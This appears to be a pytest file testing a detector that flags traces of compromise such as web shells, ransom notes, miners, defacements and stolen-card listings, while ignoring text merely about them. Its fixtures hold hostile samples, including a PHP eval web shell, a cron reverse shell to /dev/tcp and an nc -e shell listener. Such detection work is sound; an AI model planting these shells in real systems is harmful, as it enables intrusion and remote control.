"""Traces of a break-in or a crime: found by what the thing itself has, not by texts about it."""

from __future__ import annotations

import pytest

from fleet.findings.traces import KINDS, MOST, traces

CORPUS = {
    "malware": ["X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"],
    "web-shell": ["<?php eval(base64_decode($_POST['x'])); ?>", "system( $_GET[0] )", "<b>WSO shell</b> 4.2"],
    "hidden-miner": ["pool: stratum+tcp://pool.example:3333", '<script src="/a/coinhive.min.js">'],
    "ransom-note": [
        "All your data has been backed up. Send 0.02 BTC",
        "your files are encrypted, see x.onion",
    ],
    "defacement": ["<title>Hacked by nobody</title>", "<h1 class=x>Owned by crew</h1>"],
    "command-channel": ["* * * * * bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", "nc -l -e /bin/sh"],
    "stolen-cards": ["fresh fullz and dumps with pin", "CVV shop"],
}


@pytest.mark.parametrize(("kind", "text"), [(kind, one) for kind, rows in CORPUS.items() for one in rows])
def test_each_trace_is_found(kind: str, text: str) -> None:
    assert traces(f"before\n{text}\nafter") == [kind]
    assert traces("x" * MOST + text) == []


@pytest.mark.parametrize(
    "text",
    [
        "how to protect yourself from ransomware: your files may be encrypted",
        "a page about EICAR and web shells",
        "<title>Hackathon by us</title>",
        "call eval(value) in the shell",
        "bitcoin is accepted here; your data is backed up daily",
        "nc is netcat",
        "card verification value (CVV)",
    ],
)
def test_texts_about_them_are_none(text: str) -> None:
    assert traces(text) == []


def test_every_kind_is_in_the_corpus_and_a_long_text_ends() -> None:
    assert set(KINDS) == set(CORPUS)
    for piece in ("your files are encrypted ", "nc -e ", "eval(", "<title>", "<h1 "):
        assert traces(piece * MOST) == []
